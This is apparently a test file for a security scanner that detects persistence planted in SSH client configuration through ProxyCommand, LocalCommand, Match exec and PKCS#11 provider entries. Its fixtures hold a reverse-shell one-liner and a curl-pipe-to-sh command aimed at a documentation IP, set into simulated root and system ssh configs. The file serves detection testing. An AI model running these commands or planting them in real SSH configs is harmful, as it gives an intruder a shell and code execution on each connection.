/**
 * The ssh client's configuration runs commands on the user's side: ProxyCommand, LocalCommand,
 * KnownHostsCommand and `Match exec`, and loads PKCS#11 and security key provider libraries. A planted command
 * there runs every time root (or the user) connects anywhere; the stock file and ordinary jump-host settings stay
 * quiet.
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { parseSshClientConfig } from "../../src/scanners/persistence/sources/ssh_client.ts";
import { makeTree, runOne } from "../helpers.ts";
import { exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";

Deno.test("ssh_config: command values as written, Match exec arguments, providers, includes; none runs nothing", () => {
  const f = parseSshClientConfig([
    "# ProxyCommand /commented",
    "Include conf.d/*.conf ~/.ssh/extra",
    "Host bastion",
    "  ProxyCommand=ssh -W %h:%p jump #not a comment to ssh",
    '  "LocalCommand" echo "connected to %n"',
    "Host *",
    "  ProxyCommand none",
    "  KnownHostsCommand /usr/local/bin/hostkeys %H",
    'Match host *.corp !exec "test -f /tmp/.k" user root',
    "PKCS11Provider /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so",
    "SecurityKeyProvider internal",
    'LocalCommand "unclosed',
  ].join("\n"));
  assert.deepEqual(f.entries, [
    { line: 4, keyword: "proxycommand", text: "ssh -W %h:%p jump #not a comment to ssh" },
    { line: 5, keyword: "localcommand", text: 'echo "connected to %n"' },
    { line: 8, keyword: "knownhostscommand", text: "/usr/local/bin/hostkeys %H" },
    { line: 9, keyword: "match exec", text: "test -f /tmp/.k" },
    { line: 10, keyword: "pkcs11provider", text: "/usr/lib/x86_64-linux-gnu/opensc-pkcs11.so" },
  ]);
  assert.deepEqual(f.includes, ["conf.d/*.conf", "~/.ssh/extra"]);
});

Deno.test("ssh_config: malformed and hostile input never throws and takes linear time", () => {
  for (
    const text of [
      '"'.repeat(1 << 20),
      "Match " + "exec ".repeat(200_000),
      "ProxyCommand" + " ".repeat(1 << 20) + "\r",
      "Include " + "a".repeat(1 << 20),
      "\0\uFFFD\f\n".repeat(200_000),
    ]
  ) assert.ok(Array.isArray(parseSshClientConfig(text).entries));
  assertLinear(parseSshClientConfig, [
    ["Match exec lines", (n) => "Match exec x\n".repeat(n / 13)],
    ["quotes", (n) => '"'.repeat(n)],
    ["exec words", (n) => "Match " + "exec ".repeat(n / 5)],
    ["blanks after a command keyword", (n) => "ProxyCommand" + " ".repeat(n) + "\r"],
  ]);
});

Deno.test("persistence: commands planted in the ssh client's configuration fire, as every user or the owner", async () => {
  using root = makeTree(withAccounts({
    "etc/ssh/ssh_config": "Include /etc/ssh/ssh_config.d/*.conf\nHost *\n    SendEnv LANG LC_*\n",
    "etc/ssh/ssh_config.d/10-agent.conf": `Match exec "${FETCH}"\n`,
    "root/.ssh/config": `Host *\n  ProxyCommand sh -c '${REVERSE}; exec nc %h %p'\n  Include extra\n`,
    "root/.ssh/extra": "PKCS11Provider /var/tmp/.p11.so\n",
    "var/tmp/.p11.so": "\x7fELF",
    "home/alice/.ssh/config": "Host db\n  PermitLocalCommand yes\n  LocalCommand /dev/shm/.lc %h\n",
    "dev/shm/.lc": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /root/.ssh/config:2",
    "high persistence.command.download_exec /etc/ssh/ssh_config.d/10-agent.conf:1",
    "high persistence.command.untrusted_path /home/alice/.ssh/config:3",
    "high persistence.command.untrusted_path /root/.ssh/extra:1",
  ]);
  const byPath = (p: string) => r.findings.find((f) => f.metadata.path === p)!.metadata.run_as;
  assert.deepEqual(
    [
      byPath("/etc/ssh/ssh_config.d/10-agent.conf"),
      byPath("/root/.ssh/config"),
      byPath("/home/alice/.ssh/config"),
    ],
    ["(each user)", "root", "alice"],
  );
});

Deno.test("persistence: Debian's ssh_config and ordinary jump hosts stay quiet", async () => {
  using root = makeTree(withAccounts({
    "etc/ssh/ssh_config": await Deno.readTextFile(
      new URL("../fixtures/hosts/stock/debian12/etc/ssh/ssh_config", import.meta.url),
    ),
    "root/.ssh/config": [
      "Host internal-*",
      "  ProxyCommand ssh -W %h:%p bastion.example.org",
      "  ProxyJump bastion",
      "Host *",
      "  ProxyCommand none",
      "  SecurityKeyProvider internal",
      "  PKCS11Provider /usr/lib/x86_64-linux-gnu/opensc-pkcs11.so",
      'Match exec "test -n \\"$SSH_AUTH_SOCK\\""',
      "  ForwardAgent no",
    ].join("\n") + "\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const points = r.findings.filter((f) => f.metadata.kind === "ssh_client_config").map((f) =>
    f.metadata.path
  );
  assert.deepEqual(points.sort(), ["/etc/ssh/ssh_config", "/root/.ssh/config"]);
});
